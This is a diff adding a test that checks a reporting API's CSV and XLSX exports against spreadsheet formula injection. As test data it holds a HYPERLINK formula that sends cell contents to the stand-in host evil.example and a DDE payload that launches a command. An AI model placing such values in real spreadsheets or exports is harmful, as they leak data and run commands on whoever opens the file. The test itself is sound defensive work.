@@ -149,3 +149,29 @@ def test_exports_csv_and_xlsx(http: httpx.Client, login_as: LoginAs) -> None:
         assert http.get("/api/v1/reporting/exports/mdo.csv", headers=who.headers).status_code == 403
     trail = http.get("/api/v1/review/audit", headers=lead.headers).json()
     assert [e["object_id"] for e in trail if e["action"] == "export"][:2] == ["riec.xlsx", "mdo.csv"]
+
+
+def test_exports_neutralise_formulas_in_csv_and_xlsx(http: httpx.Client, login_as: LoginAs) -> None:
+    """Issue 12 (4): a text from the field that a spreadsheet would run as a formula is written as text."""
+    inspector, keten, lead = login_as("inspecteur1"), login_as("ketenregisseur1"), login_as("teamleider1")
+    street, reason = '=HYPERLINK("http://evil.example/?d="&A1,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0"
+    iid = flagged_control(inspector, street=street, neighbourhood="-2+3")
+    r = http.post(f"/api/v1/review/inspections/{iid}/verifications", headers=lead.headers,
+                  json={"subject_id": "p1", "verdict": "gegrond", "reason": reason})
+    assert r.status_code == 201, r.text
+    for purpose in ("mdo", "riec"):
+        r = http.get(f"/api/v1/reporting/exports/{purpose}.csv", headers=keten.headers)
+        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
+        [mine] = [row for row in rows if "evil.example" in row[1]]
+        assert mine[1].startswith("'" + street + " 1")
+        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+        if purpose == "mdo":
+            assert mine[9] == "'" + reason and mine[2] == "'-2+3"
+
+        r = http.get(f"/api/v1/reporting/exports/{purpose}.xlsx", headers=keten.headers)
+        ws = load_workbook(io.BytesIO(r.content)).active
+        assert all(cell.data_type != "f" for line in ws.iter_rows() for cell in line)
+        [line] = [line for line in ws.iter_rows(min_row=2) if "evil.example" in str(line[1].value)]
+        assert line[1].data_type == "s" and line[1].value.startswith(street) and line[1].quotePrefix
+        if purpose == "mdo":
+            assert line[9].value == reason and line[9].data_type == "s" and line[9].quotePrefix
